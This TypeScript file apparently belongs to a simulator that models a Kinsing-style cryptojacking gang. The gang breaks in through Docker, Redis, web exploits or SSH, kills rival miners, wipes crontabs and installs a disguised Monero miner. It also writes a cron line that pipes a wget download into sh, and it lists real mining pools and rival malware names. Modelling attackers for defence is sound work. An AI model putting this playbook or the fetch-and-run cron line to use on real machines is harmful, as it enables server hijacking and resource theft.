import type { GangModel } from '../../gangs/gang.ts'
import { killByCpu, killByName, killByPool, killRest } from '../../gangs/steps/evict.ts'
import { dropPoolPorts, pickCronLines, vaccinate, wipeCrontabs } from '../../gangs/steps/lock-out.ts'
import { coverTracks, dropMiner, removeGuards, spread, tuneForMining } from '../../gangs/steps/settle-in.ts'
import { XMRIG_AGENT } from '../../network/cryptonote.ts'
import { GUESSING_CLIENT } from '../../network/ssh-bytes.ts'
import { MINUTE_MS } from '../../schedule.ts'
import { drawnPool, someOf, varied } from './draw.ts'

/** After Kinsing: comes through open Docker, Redis and holes in applications, installs a kit, and throws everybody else out. */
export const kitEjector: GangModel = {
  name: 'kit-ejector',
  family: 'Kinsing',
  form({ random, places, skill }) {
    const path = `${random.pick(['/tmp', '/var/tmp', '/dev/shm'])}/${varied(random, 'kdevtmpfsi')}`
    const kit = `${random.pick(['/etc', '/tmp', '/var/tmp'])}/${varied(random, 'kinsing')}`
    const wallet = places.wallet()
    const cronMs = random.pick([1, 5, 10]) * MINUTE_MS
    const [script, binary] = [`/${random.pick(['d', 't', 'ex', 'unk', 'p'])}.sh`, '/kinsing']
    const download = { ip: places.server(), name: null, paths: [script, binary, '/kdevtmpfsi'] }
    return {
      traits: {
        wallets: [wallet],
        pool: drawnPool({ random, places, skill }, [80, 443, 3333, 5555]),
        login: () => ({ login: wallet, pass: 'x' }),
        agent: XMRIG_AGENT,
        miner: {
          path,
          comm:
            skill === 'high'
              ? random.pick(['kworker/0:1H', 'systemd-journal', 'rcu_tasks'])
              : path.slice(path.lastIndexOf('/') + 1, path.lastIndexOf('/') + 16),
          args: () => [],
          cpuShare: random.between(0.85, 0.98),
          knownAs: ['kdevtmpfsi', 'kinsing'],
        },
        sources: [places.source(), places.source()],
        client: GUESSING_CLIENT,
        download,
        control: {
          ip: download.ip,
          name: null,
          port: random.pick([80, 443, 8080, 31458]),
          everyMs: random.integer(3, 15) * MINUTE_MS,
        },
        key: null,
        waysIn:
          someOf(random, ['docker-api', 'redis', 'web-exploit'] as const, 0.75).length > 0
            ? ['docker-api', 'redis', 'web-exploit', 'ssh-password']
            : ['web-exploit', 'redis', 'docker-api', 'ssh-password'],
        spreads: 0.5,
        sells: 0.05,
        returnsAfterMs: random.chance(0.4) ? random.integer(60, 300) * MINUTE_MS : null,
      },
      *occupy(foothold) {
        const order = foothold.random
        if (order.chance(0.7)) yield* removeGuards(foothold)
        yield* killByPool(foothold, someOf(order, POOLS, 0.6))
        yield* killByName(foothold, someOf(order, RIVALS, 0.8))
        if (order.chance(0.7)) yield* killByCpu(foothold, order.integer(30, 65))
        if (order.chance(0.5)) yield* pickCronLines(foothold, someOf(order, CRON_WORDS, 0.7))
        else yield* wipeCrontabs(foothold)
        if (order.chance(0.35)) yield* vaccinate(foothold, someOf(order, VACCINES, 0.5))
        if (order.chance(0.3))
          yield* dropPoolPorts(
            foothold,
            PORTS.filter((port) => port !== foothold.gang.traits.pool.port),
          )
        yield* killRest(foothold)
        if (!(yield* foothold.fetch(binary, kit, { what: 'script' }))) return
        yield* foothold.changeMode(kit, 0o755)
        if (order.chance(0.4)) yield* tuneForMining(foothold)
        if (!(yield* dropMiner(foothold, '/kdevtmpfsi'))) return
        yield* foothold.startMiner()
        const line = `*/${cronMs / MINUTE_MS} * * * * wget -q -O - http://${download.ip}${script} | sh > /dev/null 2>&1`
        yield* foothold.addCron(
          foothold.isRoot
            ? '/var/spool/cron/crontabs/root'
            : `/var/spool/cron/crontabs/${foothold.hands.user.name}`,
          line,
          cronMs,
        )
        if (skill !== 'low' && order.chance(0.6)) {
          for (const kind of ['docker-api', 'redis', 'web-exploit'] as const)
            if (foothold.host.doors.has(kind)) yield* foothold.closeDoor(kind)
        }
        if (order.chance(0.4)) yield* coverTracks(foothold)
        if (order.chance(0.5)) yield* spread(foothold)
      },
    }
  },
}

const POOLS = [
  'mine.moneropool.com',
  'xmr.crypto-pool.fr:8080',
  'monerohash.com',
  'pool.supportxmr.com',
  'moneroocean.stream',
  'stratum.f2pool.com:8888',
  'xmrpool.eu',
  'c3pool',
  ':3333',
  ':5555',
  'nanopool.org',
  'hashvault.pro',
]
const RIVALS = [
  'xmrig',
  'minerd',
  'minergate',
  'cryptonight',
  'kthrotlds',
  'ddg.2011',
  'sysguard',
  'networkservice',
  'watchbog',
  'dbused',
  'kswapd00',
  'tsm',
  'pwnrig',
  'zzh',
  'systemd-net',
  '.libs',
  'trace',
]
const CRON_WORDS = ['curl', 'wget', 'base64', 'update.sh', 'logo', '.tmp', 'kswapd', '.configrc', 'xmr']
const VACCINES = [
  '/tmp/.X25-unix',
  '/etc/zzh',
  '/tmp/xmrig',
  '/var/tmp/.systemcache',
  '/etc/newinit.sh',
  '/tmp/bashirc',
]
const PORTS = [3333, 5555, 7777, 9999, 14444]
